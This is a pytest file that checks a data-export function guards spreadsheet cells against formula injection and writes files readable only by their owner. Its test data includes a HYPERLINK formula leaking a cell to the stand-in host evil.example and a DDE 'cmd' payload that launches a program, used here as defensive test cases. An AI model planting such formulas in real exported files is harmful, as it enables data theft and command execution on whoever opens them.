"""Exported files: no formulas for spreadsheets, readable by their owner alone."""

import csv
import stat

import pandas as pd
import pytest

from graphcall_nb.frames.export import write_frame

CELLS = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': "'",
    "=cmd|'/C calc'!A0": "'",
    "@SUM(1)": "'",
    "+1+cmd|x": "'",
    "-2+3": "'",
    " =1": "'",
    "\t=1": "'",
    "\uff1d1": "'",
    "+14255550100": "",
    "+14255550100, +12065550123": "",
    "-5": "",
    "Ann = Bo": "",
}


@pytest.mark.parametrize("dtype", [object, "string", "category"])
def test_cells_are_no_formulas(tmp_path, dtype):
    path = write_frame(pd.DataFrame({"subject": pd.Series([*CELLS, None], dtype=dtype)}), tmp_path / "x.csv")
    with path.open(newline="") as file:
        rows = [row["subject"] for row in csv.DictReader(file)]
    assert rows[: len(CELLS)] == [prefix + cell for cell, prefix in CELLS.items()]


@pytest.mark.parametrize("end", ["csv", "csv.gz", "jsonl", "parquet"])
def test_file_is_for_its_owner_alone(tmp_path, end):
    path = write_frame(pd.DataFrame({"seq": [1]}), tmp_path / f"x.{end}")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
